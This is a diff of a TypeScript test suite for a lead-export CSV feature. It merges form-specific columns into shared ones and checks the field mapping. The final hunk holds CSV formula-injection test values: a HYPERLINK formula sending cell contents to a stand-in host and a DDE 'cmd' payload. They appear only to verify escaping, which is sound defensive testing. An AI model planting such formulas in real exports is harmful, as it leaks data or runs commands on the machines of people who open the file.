@@ -94,10 +94,19 @@ function watchSelects(db: Db) {
   return { calls, settled };
 }
 
+/** The columns every export has, in this order (docs/operations.md lists them). */
 const commonColumns = [
   "Lead ID",
   "Received (UTC)",
   "Type",
+  "Name",
+  "First name",
+  "Last name",
+  "Email",
+  "Phone",
+  "Organization",
+  "Job title",
+  "Message",
   "Verdict",
   "Held because",
   "State",
@@ -158,26 +167,10 @@ describe.each(databaseTargets)("the CSV export on $name", (target) => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(header).toEqual([
       ...commonColumns,
-      "First name",
-      "Last name",
-      "Email",
-      "Company or municipality",
-      "Job title",
       "City of interest",
-      "Phone",
-      "Notes",
-      "Municipality",
-      "Name",
       "Population",
-      "City",
-      "Position",
       "Preferred time",
-      "Message",
-      "Municipality or organization",
       "Subject",
-      "Company",
-      "Contact name",
-      "Contact title",
       "Website",
       "Partnership type",
       "Company size",
@@ -188,13 +181,131 @@ describe.each(databaseTargets)("the CSV export on $name", (target) => {
       "Target markets",
       "Partnership goals",
       "Expected annual revenue",
-      "Additional information",
       "Accepted the terms",
       "Marketing consent",
     ]);
     expect(text.match(/\r\n/g)).toHaveLength(2);
     expect(text.endsWith('"\r\n')).toBe(true);
     expect(records[0]).toMatchObject({ "First name": "Zoë", "Last name": "Ødegaard", Message: "a\nb" });
+  });
+
+  test("one column per thing, whichever form asked for it: the name, the address, the organization", async () => {
+    const { db } = state;
+    const answers = {
+      download_presentation: {
+        firstName: "Mei",
+        lastName: "Chen",
+        email: "mei@dover.gov",
+        company: "City of Dover",
+        title: "Clerk",
+        phone: "302 555 0100",
+        notes: "For the council",
+        cityOfInterest: "other",
+      },
+      pilot: {
+        municipalityName: "Town of Milford",
+        name: "Ada Lovelace",
+        jobTitle: "Mayor",
+        email: "ada@milford.gov",
+        populationSize: "under-10k",
+      },
+      demo: {
+        firstName: "Alan",
+        lastName: "Turing",
+        email: "alan@lewes.gov",
+        phone: "302-555-0101",
+        cityName: "Lewes",
+        position: "Director",
+        message: "Show us the assistant",
+      },
+      newsletter: { email: "news@smyrna.gov" },
+      contact: {
+        name: "Grace Hopper",
+        email: "grace@newark.gov",
+        municipality: "City of Newark",
+        subject: "pricing",
+        message: "How much?",
+      },
+      partner: {
+        companyName: "Acme, Inc.",
+        contactName: "Katherine Johnson",
+        contactTitle: "CEO",
+        email: "kj@acme.test",
+        phone: "555-0102",
+        additionalInfo: "We build kiosks",
+      },
+    } as const;
+    for (const [type, data] of Object.entries(answers)) {
+      await insertLead(db, { type: type as keyof typeof answers, data });
+    }
+    const { records } = await exported(db);
+    const person = (type: string) => {
+      const record = records.find((row) => row.Type === type)!;
+      return [
+        record.Name,
+        record["First name"],
+        record["Last name"],
+        record.Email,
+        record.Phone,
+        record.Organization,
+        record["Job title"],
+        record.Message,
+      ];
+    };
+    expect(person("download_presentation")).toEqual([
+      "Mei Chen",
+      "Mei",
+      "Chen",
+      "mei@dover.gov",
+      "302 555 0100",
+      "City of Dover",
+      "Clerk",
+      "For the council",
+    ]);
+    // A name typed in one field is the name, not split into a guessed first and last name.
+    expect(person("pilot")).toEqual([
+      "Ada Lovelace",
+      "",
+      "",
+      "ada@milford.gov",
+      "",
+      "Town of Milford",
+      "Mayor",
+      "",
+    ]);
+    expect(person("demo")).toEqual([
+      "Alan Turing",
+      "Alan",
+      "Turing",
+      "alan@lewes.gov",
+      "302-555-0101",
+      "Lewes",
+      "Director",
+      "Show us the assistant",
+    ]);
+    expect(person("newsletter")).toEqual(["", "", "", "news@smyrna.gov", "", "", "", ""]);
+    expect(person("contact")).toEqual([
+      "Grace Hopper",
+      "",
+      "",
+      "grace@newark.gov",
+      "",
+      "City of Newark",
+      "",
+      "How much?",
+    ]);
+    expect(person("partner")).toEqual([
+      "Katherine Johnson",
+      "",
+      "",
+      "kj@acme.test",
+      "555-0102",
+      "Acme, Inc.",
+      "CEO",
+      "We build kiosks",
+    ]);
+    // A form's own answers follow, by their labels.
+    expect(records.find((row) => row.Type === "contact")?.Subject).toBe("Pricing");
   });
 
   test("a type's export has the inbox's columns and that form's fields only", async () => {
@@ -204,9 +315,10 @@ describe.each(databaseTargets)("the CSV export on $name", (target) => {
       data: { municipalityName: "Dover", name: "Ada", jobTitle: "Mayor" },
     });
     const { header, records } = await exported(db, { type: "pilot" });
-    expect(header).toEqual([...commonColumns, "Municipality", "Name", "Job title", "Email", "Population"]);
+    // The same columns first as in every export: a CRM's import mapping fits each of them.
+    expect(header).toEqual([...commonColumns, "Population"]);
     expect(records[0]).toMatchObject({
-      Municipality: "Dover",
+      Organization: "Dover",
       Name: "Ada",
       "Job title": "Mayor",
       Population: "",
@@ -251,6 +363,8 @@ describe.each(databaseTargets)("the CSV export on $name", (target) => {
       "Handled (UTC)": "",
       Delivery: "failed",
       Note: 'Called, said "later"',
+      Name: "Ada Lovelace",
+      Organization: "Dover",
       "Preferred time": "Morning (9 AM-12 PM EST)",
       Message: 'We have 120 shops, a "main street"\nand parking trouble.',
       "Job title": "",
@@ -258,7 +372,8 @@ describe.each(databaseTargets)("the CSV export on $name", (target) => {
     expect(byType.partner).toMatchObject({
       State: "handled",
       Delivery: "sent",
-      Company: "Acme, Inc.",
+      Name: "Grace Hopper",
+      Organization: "Acme, Inc.",
       "Partnership type": "Strategic Partner",
       "Company size": "11-50 employees",
       "Municipal experience": "Yes",
@@ -294,8 +409,8 @@ describe.each(databaseTargets)("the CSV export on $name", (target) => {
       "First name": '\'=HYPERLINK("https://evil.test/?"&A1,"Click")',
       "Last name": "'+cmd|' /C calc'!A0",
       Email: "'@SUM(1+1)",
-      City: "'-2+3",
-      Position: "'\tTAB",
+      Organization: "'-2+3",
+      "Job title": "'\tTAB",
       Phone: "'\r=1",
       Message: "a=b, 1+1, x-y and me@city.gov",
     });
